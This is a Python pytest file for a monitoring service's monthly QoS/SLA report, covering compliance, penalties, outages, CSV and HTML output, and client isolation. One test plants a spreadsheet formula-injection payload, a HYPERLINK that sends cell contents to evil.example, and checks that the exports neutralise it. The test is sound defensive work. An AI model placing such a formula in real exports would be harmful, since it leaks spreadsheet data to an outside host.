"""The monthly QoS/SLA report: GTR compliance, breaches, penalties, availability; CSV and page."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from html import escape

import pytest
from fastapi.testclient import TestClient
from sqlalchemy.orm import Session, sessionmaker

from clocks import ManualClock
from collector.app import create_app
from collector.datadir import DEMO_INVENTORY_DIR
from collector.identity.access import Role
from collector.identity.tokens import create_user
from collector.inventory.files import load_inventory
from collector.listeners import alarm_engine
from collector.reports.service import spreadsheet_safe
from collector.tickets.flows import TicketAlarmListener
from protocol import AlarmEvent, Severity, Transition
from tests.collector.conftest import declaration

INVENTORY = DEMO_INVENTORY_DIR
NOTICE = {
    "link_ref": "L",
    "corrective_operation": "fixed",
    "occurred_at": "2026-01-05T09:00:00Z",
    "description": "d",
    "causes": "c",
}


@pytest.fixture
def app(
    sessions: sessionmaker[Session], clock: ManualClock
) -> Iterator[tuple[TestClient, dict[str, str], dict[str, str]]]:
    with sessions() as session:
        load_inventory(session, INVENTORY)
        _, noc = create_user(session, name="noc", role=Role.NOC, now=clock.now())
        _, alpha = create_user(
            session, name="alpha", role=Role.CLIENT, client_id="op-alpha", now=clock.now()
        )
        engine_ = alarm_engine([TicketAlarmListener()])

        def alarm(seq: int, alarm_type: str, transition: Transition) -> None:
            engine_.apply_event(
                session,
                event=AlarmEvent(
                    agent_id="a",
                    stream_id="0" * 32,
                    seq=seq,
                    ts=clock.now(),
                    clock_synced=True,
                    site_id="NRO-LYO-01",
                    equipment_id="eq",
                    point=alarm_type,
                    alarm_type=alarm_type,
                    transition=transition,
                    severity=Severity.MAJOR,
                ),
                agent_id="a",
                now=clock.now(),
            )

        alarm(1, "hvac_fault", Transition.RAISED)  # major: GTR 8 h
        alarm(2, "fire", Transition.RAISED)  # critical: GTR 4 h
        session.commit()
        clock.advance(hours=2)
        alarm(3, "hvac_fault", Transition.CLEARED)
        session.commit()
        clock.advance(hours=4)  # 6 h: fire breached by 2 h
        alarm(4, "fire", Transition.CLEARED)
        session.commit()
    client = TestClient(create_app(session_factory=sessions, clock=clock))
    noc_h, alpha_h = {"Authorization": f"Bearer {noc}"}, {"Authorization": f"Bearer {alpha}"}
    for ticket in client.get("/api/v1/tickets", headers=noc_h).json()["items"]:
        client.post(
            f"/api/v1/tickets/{ticket['ref']}/transition", json={"to": "qualified"}, headers=noc_h
        )
        client.post(
            f"/api/v1/tickets/{ticket['ref']}/transition", json={"to": "in_progress"}, headers=noc_h
        )
        client.post(f"/api/v1/tickets/{ticket['ref']}/restore", json=NOTICE, headers=noc_h)
    yield client, noc_h, alpha_h


def test_monthly_report_figures_csv_and_page(
    app: tuple[TestClient, dict[str, str], dict[str, str]],
) -> None:
    client, noc, alpha = app
    report = client.get(
        "/api/v1/reports/monthly?month=2026-01&client_id=op-alpha", headers=noc
    ).json()
    assert len(report["tickets"]) == 2
    assert report["breaches"] == 1 and report["gtr_compliance_pct"] == 50.0
    assert report["penalties_eur"] == 300.0  # fire: 2 started hours late x 150
    nro = next(s for s in report["sites"] if s["site_id"] == "NRO-LYO-01")
    assert nro["outage_min"] == 360.0  # 6 h with a major or critical alarm open
    csv_text = client.get(
        "/api/v1/reports/monthly?month=2026-01&client_id=op-alpha&format=csv", headers=noc
    ).text
    assert csv_text.splitlines()[0].startswith("ref,client_ref,site_id")
    assert "gtr_compliance_pct,50.0,breaches,1" in csv_text
    page = client.get(
        "/api/v1/reports/monthly?month=2026-01&client_id=op-alpha&format=html", headers=noc
    ).text
    assert "QoS / SLA report" in page and "<svg" in page
    mine = client.get(
        "/api/v1/reports/monthly?month=2026-01&client_id=op-beta", headers=alpha
    ).json()
    assert mine["client_id"] == "op-alpha"  # a client only ever gets its own report


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"details")'


def test_a_client_reference_never_runs_as_a_formula_in_the_csv_or_the_page(
    app: tuple[TestClient, dict[str, str], dict[str, str]],
) -> None:
    client, noc, alpha = app
    declared = client.post("/api/v1/tickets", json=declaration(client_ref=FORMULA), headers=alpha)
    assert declared.status_code == 201, declared.text
    url = "/api/v1/reports/monthly?month=2026-01&client_id=op-alpha&format="
    rows = list(csv.reader(io.StringIO(client.get(url + "csv", headers=noc).text)))
    assert [r[1] for r in rows if r and r[0] == declared.json()["ref"]] == ["'" + FORMULA]
    assert escape("'" + FORMULA) in client.get(url + "html", headers=noc).text


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("=1+2", "'=1+2"),
        ("+33 1 23 45 67 89", "'+33 1 23 45 67 89"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("HEB00001", "HEB00001"),
        ("-12.5", "-12.5"),  # a number written as text stays a number
        ("+1e3", "+1e3"),
        (-12.5, -12.5),
        (0, 0),
        (None, None),
    ],
)
def test_spreadsheet_safe_quotes_formulas_and_keeps_numbers(cell: object, safe: object) -> None:
    assert spreadsheet_safe(cell) == safe
